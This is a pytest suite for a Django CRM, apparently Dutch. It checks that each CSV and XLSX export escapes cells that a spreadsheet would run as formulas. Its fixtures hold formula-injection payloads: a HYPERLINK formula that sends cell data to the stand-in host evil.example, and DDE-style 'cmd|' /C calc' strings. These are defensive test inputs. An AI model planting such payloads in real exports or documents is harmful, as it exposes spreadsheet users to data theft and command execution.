"""Every CSV and XLSX download the product offers keeps a cell that a spreadsheet would run as a
formula (= + - @, a tab or carriage return before one) from running. EXPORTS lists every export
once; a test proves the list is complete (every export route, every dashboard table and list),
and a guard test fails when a csv writer or a workbook appears outside wsp_crm/exports.py."""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from audit.services import tracked
from candidates.models import CandidateAccessLog
from continuity.dashboard.sections import LISTS
from employers.models import ContactPerson, Employer
from tests.factories import AccountAssignmentFactory, ConversationFactory
from wsp_crm import exports

EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"Klik hier")'
ROOT = Path(__file__).resolve().parents[2]

DASHBOARD_TABLES = [
    "fixed_manager",
    "manager_changes",
    "top_changes",
    "changes_trend",
    "caseload",
    "recency",
    "contact_coverage",
    "contact_changes",
    "signals_kind",
    "signals_severity",
    "signals_staff",
    "funnel",
    "placements",
    "retention",
    "endings",
    "at_risk",
    "proposals",
    "employer_base",
]


def quarter_start():
    today = timezone.localdate()
    return datetime.date(today.year, 3 * ((today.month - 1) // 3) + 1, 1).isoformat()


# What a drill-down list needs to know before it answers.
LIST_QUERY = {
    "caseload": "&manager_id=MANAGER",
    "contact_changes": "&kind=added",
    "employers": "&facet=stage&value=active",
    "missing_contact": "&level=top",
    "placements_ended": "&reason=none",
    "placements_started": "&quarter=QUARTER",
    "proposals": "&status=proposed",
}

# Every export: (url name, path, format, does it show the employer's name or the evil route?).
# The dashboard's are listed per table and per drill-down list, in both formats.
EXPORTS = [
    ("employers:export", "/employers/export.csv", "csv", True),
    ("employers:import_sample", "/employers/import/sample.csv", "csv", False),
    ("audit:export", "/audit/export.csv", "csv", True),
    ("audit:access_export", "/audit/access/export.csv", "csv", True),
    *[
        ("dashboard:export", f"/dashboard/export/{key}/?format={fmt}", fmt, False)
        for key in DASHBOARD_TABLES
        for fmt in ("csv", "xlsx")
    ],
    *[
        (
            "dashboard:list",
            f"/dashboard/list/{name}/?format={fmt}{LIST_QUERY.get(name, '')}",
            fmt,
            name in ("active", "caseload", "employers", "missing_contact"),
        )
        for name in sorted(LISTS)
        for fmt in ("csv", "xlsx")
    ],
]


@pytest.fixture
def poisoned(region, wsp_admin, account_manager):
    """An employer, contact persons and an access-log row whose text starts with every guard
    character."""
    employer = Employer(region=region, name=EVIL, kvk_number="", stage=Employer.Stage.ACTIVE)
    with tracked(employer, by=wsp_admin):
        employer.save()
    AccountAssignmentFactory(employer=employer, manager=account_manager)
    for start in ("+", "-", "@", "\t="):
        ContactPerson.objects.create(
            employer=employer, name=f"{start}SUM(1+1)*cmd|' /C calc'!A0", level="floor"
        )
    CandidateAccessLog.objects.create(
        user=wsp_admin,
        candidate_ref=1,
        route=EVIL,
        method="GET",
        allowed=True,
    )
    return employer


def csv_cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8").lstrip("\ufeff")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def xlsx_cells(response):
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), "a formula in the workbook"
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_guarded_csv(cells, expect_evil):
    for cell in cells:
        assert not exports.needs_guard(cell), f"unguarded cell {cell!r}"
    if expect_evil:
        assert "'" + EVIL in cells


def assert_guarded_xlsx(cells, expect_evil):
    for cell in cells:
        assert cell.data_type != "f"
        if isinstance(cell.value, str) and exports.needs_guard(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, f"unguarded cell {cell.value!r}"
    if expect_evil:
        assert EVIL in [cell.value for cell in cells]


@pytest.mark.parametrize(
    ("name", "url", "fmt", "expect_evil"), EXPORTS, ids=[e[1] for e in EXPORTS]
)
def test_every_export_guards_its_cells(
    client_for, wsp_admin, account_manager, poisoned, name, url, fmt, expect_evil
):
    url = url.replace("QUARTER", quarter_start()).replace("MANAGER", str(account_manager.pk))
    response = client_for(wsp_admin).get(url)
    assert response.status_code == 200, url
    assert "attachment" in response["Content-Disposition"]
    if fmt == "xlsx":
        assert response["Content-Type"] == exports.XLSX_TYPE
        assert_guarded_xlsx(xlsx_cells(response), expect_evil)
    else:
        assert response["Content-Type"].startswith("text/csv")
        assert_guarded_csv(csv_cells(response), expect_evil)


def _routes(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _routes(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{prefix}{pattern.name}", str(pattern.pattern)


def test_the_table_lists_every_export_route(client_for, wsp_admin, poisoned):
    """A route named *export* or ending in .csv/.xlsx, every dashboard table and every drill-down
    list are in EXPORTS."""
    exporting = {
        name
        for name, route in _routes(get_resolver().url_patterns)
        if "export" in name or re.search(r"\.(csv|xlsx)\$?$", route)
    }
    listed = {entry[0] for entry in EXPORTS}
    assert exporting <= listed, exporting - listed
    page = client_for(wsp_admin).get("/dashboard/")
    shown = {table.key for section in page.context["sections"] for table in section["tables"]}
    assert shown == set(DASHBOARD_TABLES)
    for list_name in LISTS:
        for fmt in ("csv", "xlsx"):
            assert any(f"/list/{list_name}/?format={fmt}" in entry[1] for entry in EXPORTS)


def test_no_file_writer_outside_the_export_module():
    """A new csv writer or workbook must go through wsp_crm/exports.py (which guards cells)."""
    pattern = re.compile(
        r"csv\.(writer|DictWriter)\b|\bWorkbook\(|xlsxwriter|import openpyxl|from openpyxl"
    )
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "tests", "node_modules") or relative == Path(
            "wsp_crm/exports.py"
        ):
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if pattern.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []


# --- each guard character on its own (a guard reduced to "=" fails here) ---------------------

GUARDED = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", GUARDED, ids=repr)
def test_the_guard_covers_each_character(start):
    value = f'{start}HYPERLINK("http://evil.example")'
    assert exports.guard(value) == "'" + value
    assert exports.needs_guard(value)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_each_character_is_guarded_in_the_employer_and_dashboard_exports(
    client_for, team_lead, region, account_manager, start
):
    name = f"{start}cmd|' /C calc'!A0"
    employer = Employer.objects.create(
        region=region, name=name, kvk_number="", stage=Employer.Stage.ACTIVE
    )
    AccountAssignmentFactory(employer=employer, manager=account_manager)
    client = client_for(team_lead)
    assert "'" + name in csv_cells(client.get("/employers/export.csv?manager="))
    assert "'" + name in csv_cells(client.get("/dashboard/list/active/?format=csv"))
    cells = xlsx_cells(client.get("/dashboard/list/active/?format=xlsx"))
    (cell,) = [c for c in cells if c.value == name]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("value", ["+31 6 12345678", "-5", "030 123 45 67", "Bakkerij", ""])
def test_plain_numbers_and_text_are_left_alone(value):
    assert exports.guard(value) == value


def test_xlsx_keeps_numbers_numeric(client_for, team_lead, region, account_manager):
    """Day counts and totals are numbers in Excel, not text (the caseload's median and longest
    days since the last conversation are printed as they are)."""
    employer = Employer.objects.create(
        region=region, name="Telbaar", kvk_number="", stage=Employer.Stage.ACTIVE
    )
    AccountAssignmentFactory(employer=employer, manager=account_manager)
    ConversationFactory(employer=employer, author=account_manager)  # 7 days ago
    cells = xlsx_cells(client_for(team_lead).get("/dashboard/export/caseload/?format=xlsx"))
    header = [str(c.value) for c in cells if c.row == 1]
    row = {header[c.column - 1]: c for c in cells if c.row == 2}
    assert (row["Werkgevers"].value, row["Werkgevers"].data_type) == (1, "n")
    days = [c for name, c in row.items() if "dagen" in name.lower()]
    assert len(days) == 2, header
    assert [(c.value, c.data_type) for c in days] == [(7, "n"), (7, "n")]
